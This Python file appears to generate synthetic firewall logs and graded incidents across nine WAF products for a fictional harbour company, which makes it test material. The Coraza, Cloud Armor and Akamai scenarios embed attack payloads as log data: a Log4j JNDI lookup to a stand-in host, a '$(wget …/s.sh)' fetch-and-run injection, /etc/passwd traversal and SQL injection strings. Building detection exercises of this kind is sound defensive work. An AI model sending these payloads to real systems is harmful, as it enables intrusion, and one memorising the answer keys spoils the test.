"""Web application firewalls: ModSecurity 3, Coraza, AWS WAF, Cloudflare, Front Door, Application Gateway, Cloud Armor, Fastly, Akamai."""
from shapes import *
from held_back.lines_harbours import *


def harbour_wall_editor(s):
    """ModSecurity 3: after the rule set was raised to CRS 4 the editors' articles with HTML are refused; a scanner is refused all day."""
    cut, end = s.some(30, 45), s.some(65, 90)
    what = s.change(s.at(cut), s.who(0), "upgrade OWASP CRS 3.3.5 to 4.7.0, paranoia level 2", "waf:web1", "waf")
    if s.r.random() < .5: s.change(s.at(cut + 6), s.who(3), "new logo on the front page", "cms:theme", "deploy")
    i = s.incident("articles with HTML", "waf", "waf-rule", "misconfiguration", "burst-after-change", change=what)
    j = s.incident("a scanner by name", "waf", "waf-rule", "attack", "scan", acceptable=dict(cause=["user-agent-blocked"], pattern=["exploit-attempt"]))
    def blocked(t, c, method, uri, rule, data, where, agent, ver, **more): return [modsec3(s, t, c, method, uri, rule, data, where, agent=agent, ver=ver), access(s, t + ms(s), c, "%s %s" % (method, uri), 403, size=146, agent=agent, **more)]
    visits(s, lambda t, c, a, p: access(s, t, c, "GET " + p, 200, agent=a), every=11)
    for t in s.spread(0, 100, 40):
        k = s.some(0, 6); uri = "/cms/articles/%d" % s.some(1, 80)
        if s.at(cut) < t < s.at(end): s.deny(i, blocked(t, s.ip(k), "POST", uri, "941160", '<p style="margin:0">Quay 4 <img src="quay.jpg"></p>', "ARGS:body", s.agent(k), "OWASP_CRS/4.7.0", user=s.who(k)), s.who(k))
        else: access(s, t, s.ip(k), "POST " + uri, 200, agent=s.agent(k), user=s.who(k))
    for t in s.spread(2, 98, 90):
        nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)" % s.some(1, 9000)
        s.deny(j, blocked(t, s.attacker, "GET", s.r.choice(SECRETS), "913100", "nikto", "REQUEST_HEADERS:User-Agent", nikto, "OWASP_CRS/4.7.0" if t > s.at(cut) else "OWASP_CRS/3.3.5"), None)


def harbour_wall_coraza(s):
    """Coraza in Caddy: Log4j probes and path tricks from moving addresses; a customer's remark on a form looks like a shell command."""
    innocent(s)
    i = s.incident("probes", "waf", "waf-rule", "attack", "exploit-attempt", acceptable=dict(pattern=["scan"]))
    j = s.incident("a customer's remark", "waf", "waf-rule", "misconfiguration", "retry-loop", acceptable=dict(pattern=["steady", "single"], verdict=["undetermined"]))
    visits(s, lambda t, c, a, p: caddy(s, t, c, "GET", p, 200, agent=a), every=12)
    for t in s.spread(3, 97, 100):
        c = "203.0.113.%d" % s.some(130, 240)
        rule, data, where = s.r.choice((("944150", "${jndi:ldap://x.%s.example/a}" % s.hex(6), "REQUEST_HEADERS:X-Api-Version"), ("930120", "../../../../etc/passwd", "ARGS:file"), ("932160", "$(wget http://x/s.sh)", "ARGS:cmd"), ("942100", "1' or 1=1--", "ARGS:id")))
        uri = s.r.choice(("/", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/berths?id=1%27%20or%201%3D1--", "/cgi-bin/test?cmd=%24(wget%20http%3A%2F%2Fx%2Fs.sh)"))
        s.deny(i, coraza(s, t, c, uri, rule, data, where, s.hex(16)) + [caddy(s, t + ms(s), c, "GET", uri, 403, agent="Mozilla/5.0 (compatible)")], None)
    k, t = s.some(0, 8), s.at(s.some(30, 70), s.r.uniform(0, 59))
    caddy(s, t - sec(40), s.ip(k), "GET", "/contact", 200, agent=s.agent(k))
    for n in range(s.some(12, 14)):
        t += sec(s.some(8, 60)); s.deny(j, coraza(s, t, s.ip(k), "/contact", "932160", "please mail the manual of the echo sounder; cat 5 cable is missing", "ARGS:remark", s.hex(16)) + [caddy(s, t + ms(s), s.ip(k), "POST", "/contact", 403, agent=s.agent(k))], None)


def harbour_wall_aws(s):
    """AWS WAF before a load balancer: a country rule, a challenge for scripts, a rate rule against a scraper, and a body limit that meets people's uploads."""
    innocent(s)
    def join(w, a):
        """the balancer's trace id is the firewall's request id"""
        at = a["text"].index('"Root=') + 6
        a["text"] = a["text"][:at] + json.loads(w["text"])["httpRequest"]["requestId"] + a["text"][a["text"].index('"', at):]
        return [w, a]
    def blocked(t, c, method, path, rule, kind="REGULAR", **more): return join(aws_waf(s, t, c, method, path.split("?")[0], "BLOCK", rule, kind, source="ALB", **more), alb(s, t + ms(s), c, "%s %s" % (method, path), 403, actions="waf", agent=more.get("agent")))
    for t in s.spread(0, 100, 9):
        k, p = s.some(0, 25), s.r.choice(PAGES)
        join(aws_waf(s, t, s.ip(k), "GET", p.split("?")[0], "ALLOW", "Default_Action", agent=s.agent(k), source="ALB"), alb(s, t + ms(s), s.ip(k), "GET " + p, 200, "200", actions="waf,forward", agent=s.agent(k)))
    g = s.incident("visitors of a closed country", "waf", "geo-blocked", "working-as-intended", "single", acceptable=dict(pattern=["steady"], layer=["edge"]))
    for n in range(s.some(12, 16)): c, land = "198.51.100.%d" % (20 + n), s.r.choice(("KP", "SY")); s.deny(g, blocked(s.at(s.some(1, 97), s.r.uniform(0, 59)), c, "GET", s.r.choice(PAGES[:4]), "deny-sanctioned-countries", country=land, agent=s.agent(n), labels=["awswaf:clientip:geo:country:" + land]), None)
    b = s.incident("scripts that do not pass the challenge", "waf", "bot-challenge", "unwanted-automation", "scrape", acceptable=dict(pattern=["steady", "retry-loop"], verdict=["undetermined"]))
    t = s.at(s.some(10, 50), s.r.uniform(0, 59))
    for n in range(s.some(25, 40)):
        t += sec(s.r.uniform(3, 30)); c = "203.0.113.%d" % s.some(100, 105)
        s.deny(b, join(aws_waf(s, t, c, "GET", "/timetable", "CHALLENGE", "challenge-timetable", agent=TOOLS[0], challenge=dict(responseCode=202, solveTimestamp=0, failureReason=s.r.choice(("TOKEN_MISSING", "TOKEN_INVALID"))), source="ALB"), alb(s, t + ms(s), c, "GET /timetable?day=%d" % n, 202, actions="waf", agent=TOOLS[0])), None)
    r = s.incident("a scraper beyond the rate", "waf", "rate-limited", "unwanted-automation", "scrape", acceptable=dict(pattern=["retry-loop", "steady"]))
    t = s.at(s.some(40, 90), s.r.uniform(0, 59))
    for n in range(s.some(50, 90)): t += sec(s.r.uniform(.2, .7)); s.deny(r, blocked(t, s.attacker, "GET", "/berths/%d" % (900 + n), "rate-per-ip", "RATE_BASED", agent=TOOLS[1], rate=[dict(rateBasedRuleId="arn:aws:wafv2:::rate", rateBasedRuleName="rate-per-ip", limitKey="IP", maxRateAllowed=300, evaluationWindowSec=60, limitValue=s.attacker)]), None)
    f = s.incident("uploads larger than the body limit", "waf", "waf-rule", "misconfiguration", "steady", acceptable=dict(pattern=["single", "retry-loop"], verdict=["undetermined"]))
    for n in range(s.some(12, 16)):
        k = s.some(0, 5); rg = dict(ruleGroupId="AWS#AWSManagedRulesCommonRuleSet", terminatingRule=dict(ruleId="SizeRestrictions_BODY", action="BLOCK", ruleMatchDetails=None), nonTerminatingMatchingRules=[], excludedRules=None, customerConfig=None)
        s.deny(f, blocked(s.at(s.some(1, 97), s.r.uniform(0, 59)), s.ip(k), "POST", "/claims/photos", "AWS-AWSManagedRulesCommonRuleSet", "MANAGED_RULE_GROUP", groups=[rg], agent=s.agent(k), labels=["awswaf:managed:aws:core-rule-set:SizeRestrictions_Body"]), None)


def harbour_wall_cloudflare(s):
    """Cloudflare before an application: an address rule, a challenge, pictures on another site, a false Googlebot, and 403 that the origin itself gives."""
    innocent(s)
    for t in s.spread(0, 100, 8): k = s.some(0, 30); cf_http(s, t, s.ip(k), "GET", s.r.choice(PAGES), 200, s.hex(16), agent=s.agent(k))
    def blocked(t, c, path, action, source, rule, text, agent, country="de"):
        ray = s.hex(16)
        e = cloudflare(s, t, c, "GET", path, action, source, rule, text, country, agent); v = json.loads(e["text"]); v["RayID"] = ray; e["text"] = json.dumps(v)
        return [e, cf_http(s, t + ms(s), c, "GET", path, 403, ray, agent, action, rule, text, (source,), country)]
    a = s.incident("an address rule", "edge", "address-blocked", "working-as-intended", "steady", acceptable=dict(layer=["waf", "firewall"], verdict=["attack", "unwanted-automation", "undetermined"], pattern=["single", "scan"]))
    for t in s.spread(0, 100, 300): s.deny(a, blocked(t, "203.0.113.%d" % s.some(100, 104), s.r.choice(PAGES), "block", "ip", s.hex(32), "", s.agent(1)), None)
    c = s.incident("challenges that are not solved", "edge", "bot-challenge", "unwanted-automation", "scrape", acceptable=dict(layer=["waf"], pattern=["steady", "single"], verdict=["undetermined"]))
    rule = s.hex(32)
    for t in s.spread(10, 80, 90): s.deny(c, blocked(t, "198.51.100.%d" % s.some(60, 66), "/berths/%d" % s.some(1, 900), "managed_challenge", "firewallCustom", rule, "challenge low bot score on /berths", TOOLS[0]), None)
    h = s.incident("pictures on another site", "edge", "hotlink-refused", "working-as-intended", "single", acceptable=dict(layer=["waf"], pattern=["steady"], verdict=["unwanted-automation"]))
    for n in range(s.some(12, 15)): s.deny(h, blocked(s.at(s.some(1, 97), s.r.uniform(0, 59)), s.ip(50 + n), "/img/quay-%d.jpg" % s.some(1, 9), "block", "hot", "hotlink", "Hotlink protection", s.agent(n)), None)
    g = s.incident("a false Googlebot", "edge", "waf-rule", "unwanted-automation", "impersonated-bot", acceptable=dict(layer=["waf"], cause=["user-agent-blocked", "address-blocked", "bot-challenge"]))
    t = s.at(s.some(20, 70), s.r.uniform(0, 59))
    for n in range(s.some(20, 40)): t += sec(s.r.uniform(1, 15)); s.deny(g, blocked(t, s.attacker, "/berths/%d" % n, "block", "firewallManaged", "ae20608d93b94e97988db1bbc12cf9c8", "Anomaly:Header:User-Agent - Fake Google Bot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "nl"), None)
    o = s.incident("refused by the origin", "application", "application-refused", "undetermined", "steady", acceptable=dict(verdict=["working-as-intended"], pattern=["single"]))
    for n in range(s.some(12, 16)): k = s.some(0, 3); s.deny(o, cf_http(s, s.at(s.some(1, 97), s.r.uniform(0, 59)), s.ip(k), "GET", "/staff/%s" % s.r.choice(("rota", "payslips")), 403, s.hex(16), agent=s.agent(k), origin=403), None)


def harbour_wall_frontdoor(s):
    """Front Door: a country rule by name, a managed rule set that meets a JSON cookie after its version was raised, and a bot rule."""
    cut, end = s.some(30, 50), s.some(65, 85)
    what = s.change(s.at(cut), s.who(2), "raise Microsoft_DefaultRuleSet 1.1 to 2.1 on policy %swaf" % s.company, "waf:%swaf" % s.company, "waf")
    for t in s.spread(0, 100, 9): k = s.some(0, 22); fd_access(s, t, s.ip(k), "GET", s.r.choice(PAGES), 200, s.hex(20), s.agent(k))
    g = s.incident("visitors of a closed country", "waf", "geo-blocked", "working-as-intended", "single", acceptable=dict(layer=["edge"], pattern=["steady"]))
    for n in range(s.some(10, 14)):
        t, ref, c = s.at(s.some(1, 97), s.r.uniform(0, 59)), s.hex(20), "198.51.100.%d" % (70 + n)
        s.deny(g, [fd_waf(s, t, c, "/", "GeoBlockSanctioned", "Block", ref, "RemoteAddr", s.r.choice(("KP", "SY"))), fd_access(s, t + ms(s), c, "GET", "/", 403, ref, s.agent(n), country="KP")], None)
    i = s.incident("a JSON cookie looks like SQL", "waf", "waf-rule", "misconfiguration", "burst-after-change", change=what)
    for t in s.spread(cut, end, 40):
        k, ref, path = s.some(0, 22), s.hex(20), "/planner/%d" % s.some(1, 30)
        text = "Inbound Anomaly Score Exceeded (Total Score: 8)"
        s.deny(i, [fd_waf(s, t, s.ip(k), path, "Microsoft_DefaultRuleSet-2.1-SQLI-942200", "AnomalyScoring", ref, "CookieValue:planner_filter", '{"berth":"4","from":"2026-03-12","ships":["a","b"]}', "Detects MySQL comment-/space-obfuscated injections and backtick termination"), fd_waf(s, t + sec(.0001), s.ip(k), path, "Microsoft_DefaultRuleSet-2.1-SQLI-942370", "AnomalyScoring", ref, "CookieValue:planner_filter", '"2026-03-12","ships', "Detects classic SQL injection probings 2/3"),
                  fd_waf(s, t + sec(.0002), s.ip(k), path, "Microsoft_DefaultRuleSet-2.1-BLOCKING-EVALUATION-949110", "Block", ref, "TX:ANOMALY_SCORE", "8", text), fd_access(s, t + ms(s), s.ip(k), "GET", path, 403, ref, s.agent(k))], None)
    for t in s.spread(0, cut, 60): k = s.some(0, 22); fd_access(s, t, s.ip(k), "GET", "/planner/%d" % s.some(1, 30), 200, s.hex(20), s.agent(k))
    for t in s.spread(end, 100, 60): k = s.some(0, 22); fd_access(s, t, s.ip(k), "GET", "/planner/%d" % s.some(1, 30), 200, s.hex(20), s.agent(k))
    b = s.incident("a bad bot", "waf", "waf-rule", "unwanted-automation", "impersonated-bot", acceptable=dict(cause=["user-agent-blocked", "bot-challenge", "address-blocked"], pattern=["scrape"], verdict=["attack"]))
    t = s.at(s.some(5, 60), s.r.uniform(0, 59))
    for n in range(s.some(12, 30)):
        t += sec(s.r.uniform(4, 60)); ref, path = s.hex(20), "/berths/%d" % n
        s.deny(b, [fd_waf(s, t, s.attacker, path, "Microsoft_BotManagerRuleSet-1.1-BadBots-Bot100200", "Block", ref, "HeaderValue:User-Agent", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Malicious bots that have falsified their identity"), fd_access(s, t + ms(s), s.attacker, "GET", path, 403, ref, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)")], None)


def harbour_wall_appgw(s):
    """Application Gateway: file names with two dots trip a rule; behind it an application's key vault was closed to public networks."""
    cut = s.some(35, 55)
    what = s.change(s.at(cut), s.who(4), "disable public network access on key vault %s-kv" % s.company, "keyvault:%s-kv" % s.company, "config")
    for t in s.spread(0, 100, 10): k = s.some(0, 18); agw_access(s, t, s.ip(k), "GET", s.r.choice(PAGES), 200, s.hex(32), s.agent(k))
    i = s.incident("file names with dots", "waf", "waf-rule", "misconfiguration", "steady", acceptable=dict(pattern=["single", "retry-loop"]))
    for n in range(s.some(13, 18)):
        t, k, tx = s.at(s.some(1, 97), s.r.uniform(0, 59)), s.some(0, 6), s.hex(32); path = "/documents?name=plan..%d.final..pdf" % s.some(1, 40)
        s.deny(i, [agw_waf(s, t, s.ip(k), path, "930110", "REQUEST-930-APPLICATION-ATTACK-LFI", "Path Traversal Attack (/../)", "Matched", tx, dict(message="Pattern match (?:^|[\\\\/])\\.\\.(?:[\\\\/]|$) at ARGS.", data="Matched Data: .. found within ARGS:name", file="rules/REQUEST-930-APPLICATION-ATTACK-LFI.conf", line="54")), agw_waf(s, t, s.ip(k), path, "949110", "REQUEST-949-BLOCKING-EVALUATION", "Mandatory rule. Cannot be disabled. Inbound Anomaly Score Exceeded (Total Score: 5)", "Blocked", tx), agw_access(s, t, s.ip(k), "GET", path, 403, tx, s.agent(k), server="-")], None)
    j = s.incident("the vault is closed to public networks", "platform", "network-perimeter", "misconfiguration", "burst-after-change", change=what, acceptable=dict(pattern=["retry-loop", "steady"], verdict=["working-as-intended"]))
    for m in range(4):
        for t in s.ticks(0, 100, 300):
            who, ip = "svc-%s@%s" % (("orders", "mailer", "pdf", "search")[m], s.domain), "198.51.100.%d" % (30 + m)
            if t < s.at(cut): key_vault(s, t, who, "SecretGet", 200, "OK", ip=ip)
            else: s.deny(j, key_vault(s, t, who, "SecretGet", 403, "Forbidden", "Public network access is disabled and request is not from a trusted service nor via an approved private link. Caller: %s. InnerError: ForbiddenByConnection" % who, ip=ip), who)


def harbour_wall_armor(s):
    """Cloud Armor: SQL injection by expression id, throttled crawlers, a closed country; the analysts' reads are outside the service perimeter after they moved."""
    innocent(s)
    for t in s.spread(0, 100, 9): k = s.some(0, 22); armor(s, t, s.ip(k), "GET", s.r.choice(PAGES), 200, s.agent(k))
    i = s.incident("injections", "waf", "waf-rule", "attack", "exploit-attempt", acceptable=dict(layer=["edge"], pattern=["scan"]))
    t = s.at(s.some(10, 80), s.r.uniform(0, 59))
    for n in range(s.some(14, 26)): t += sec(s.r.uniform(1, 20)); s.deny(i, armor(s, t, s.attacker, "GET", "/berths?id=%d%%27%%20UNION%%20SELECT%%20%d--" % (n, n), 403, TOOLS[0], "denied_by_security_policy", dict(priority=1000, outcome="DENY", configuredAction="DENY", preconfiguredExprIds=["owasp-crs-v030301-id942140-sqli"], matchedFieldType="ARG_VALUES", matchedFieldName="id", matchedFieldValue="' UNION SELECT", matchedFieldLength=14, matchedLength=14)), None)
    j = s.incident("crawlers beyond the rate", "waf", "rate-limited", "unwanted-automation", "scrape", acceptable=dict(layer=["edge"], pattern=["retry-loop", "steady"], verdict=["caller-fault", "working-as-intended"]))
    t = s.at(s.some(10, 80), s.r.uniform(0, 59))
    for n in range(s.some(60, 90)):
        t += sec(s.r.uniform(.1, .6)); over = n > 30
        e = armor(s, t, "203.0.113.66", "GET", "/vessels/%d" % n, 429 if over else 200, TOOLS[1], "denied_by_security_policy" if over else "response_sent_by_backend", dict(priority=2000, outcome="DENY" if over else "ACCEPT", configuredAction="THROTTLE", rateLimitAction=dict(key="NPOUN%s" % s.hex(6), outcome="RATE_LIMIT_THRESHOLD_EXCEED" if over else "RATE_LIMIT_THRESHOLD_CONFORM")))
        if over: s.deny(j, e, None)
    if s.r.random() < .5: s.wrapped["gcp-audit.json"] = "pretty"
    h = s.incident("reads from outside the perimeter", "platform", "network-perimeter", "working-as-intended", "steady", acceptable=dict(verdict=["misconfiguration", "undetermined"], pattern=["retry-loop", "single"]))
    cut = s.some(30, 60)
    for t in s.spread(0, 100, 100):
        k = s.some(0, 2); args = (s, t, s.mail(k), "bigquery.googleapis.com", "google.cloud.bigquery.v2.JobService.InsertJob", "projects/%s-prod/datasets/berths" % s.company)
        if t < s.at(cut) or k == 2: gcp_audit(*args, permission="bigquery.tables.getData", ip="198.51.100.9")
        else: s.deny(h, gcp_audit(*args, code=7, message="Request is prohibited by organization's policy. vpcServiceControlsUniqueIdentifier: %s" % s.hex(20), ip=s.ip(150 + k), log="policy", metadata={"@type": "type.googleapis.com/google.cloud.audit.VpcServiceControlAuditMetadata", "violationReason": "NO_MATCHING_ACCESS_LEVEL", "vpcServiceControlsUniqueId": s.hex(20), "ingressViolations": [dict(servicePerimeter="accessPolicies/77/servicePerimeters/data", targetResource="projects/4711")]}), s.mail(k))


def harbour_wall_fastly(s):
    """Fastly's own log: a rate limit against a price scraper from moving addresses (429), a partner over the quota, and 403 of the edge without a word why."""
    innocent(s)
    for t in s.spread(0, 100, 8): k = s.some(0, 30); fastly(s, t, s.ip(k), "GET", s.r.choice(PAGES), 200, state=s.r.choice(("HIT", "MISS", "PASS")), agent=s.agent(k))
    i = s.incident("a scraper that moves", "edge", "rate-limited", "unwanted-automation", "scrape", acceptable=dict(pattern=["steady", "retry-loop"]))
    for t in s.spread(5, 95, 25):
        c, u = "203.0.113.%d" % s.some(130, 160), "/prices/%d" % s.some(1, 4000)
        if s.r.random() < .4: fastly(s, t, c, "GET", u, 200, agent="Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 Chrome/84.0")
        else: s.deny(i, fastly(s, t, c, "GET", u, 429, "Too Many Requests", "ERROR", agent="Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 Chrome/84.0"), None)
    j = s.incident("403 of the edge without a word", "edge", "unknown", "undetermined", "steady", acceptable=dict(cause=["server-rule"], pattern=["single"], verdict=["working-as-intended"]))
    for n in range(s.some(12, 18)): k = s.some(60, 63); s.deny(j, fastly(s, s.at(s.some(1, 97), s.r.uniform(0, 59)), s.ip(k), "GET", "/press/kit-%d.zip" % s.some(1, 4), 403, "Forbidden", "ERROR", agent=s.agent(k)), None)


def harbour_wall_akamai(s):
    """Akamai's security events: a slow scan from moving addresses, and a form whose text trips the command rules."""
    innocent(s)
    i = s.incident("a slow scan that moves", "waf", "waf-rule", "attack", "scan", acceptable=dict(layer=["edge"], pattern=["exploit-attempt"]))
    for t in s.spread(1, 99, 120):
        p = s.r.choice(SECRETS + ("/download?file=../../etc/passwd",))
        s.deny(i, akamai(s, t, "198.51.100.%d" % s.some(130, 250), "GET", p, 403, [("950203", "Local File Inclusion", "ASE/WEB_ATTACK/LFI", "REQUEST_URI", p), ("LFI-ANOMALY", "Anomaly Score Exceeded for Local File Inclusion", "AKAMAI/POLICY/LFI_ANOMALY", "", "Vector Score: 10, Group Threshold: 9, Triggered Rules: 950203")], agent="Mozilla/5.0 (X11; Linux x86_64)", country="NL"), None)
    j = s.incident("a form's text looks like a command", "waf", "waf-rule", "misconfiguration", "steady", acceptable=dict(layer=["edge"], pattern=["single", "retry-loop"], verdict=["undetermined"]))
    for n in range(s.some(13, 17)):
        k, t = s.some(0, 6), s.at(s.some(1, 97), s.r.uniform(0, 59)); text = s.r.choice(("the mail; echo sounder test report", "please ping harbour master | later"))
        s.deny(j, akamai(s, t, s.ip(k), "POST", "/contact/message", 403, [("950002", "CMD Injection Attack Detected (OS commands)", "ASE/WEB_ATTACK/CMDI", "ARGS:message", text), ("CMD-INJECTION-ANOMALY", "Anomaly Score Exceeded for Command Injection", "AKAMAI/POLICY/CMD_INJECTION_ANOMALY", "", "Vector Score: 10, Group Threshold: 9, Triggered Rules: 950002")], agent=s.agent(k)), None)
    for t in s.spread(0, 100, 14): k = s.some(0, 20); access(s, t, "23.32.0.%d" % s.some(2, 9), "GET " + s.r.choice(PAGES), 200, agent=s.agent(k))


KINDS = [harbour_wall_editor, harbour_wall_coraza, harbour_wall_aws, harbour_wall_cloudflare, harbour_wall_frontdoor, harbour_wall_appgw, harbour_wall_armor, harbour_wall_fastly, harbour_wall_akamai]
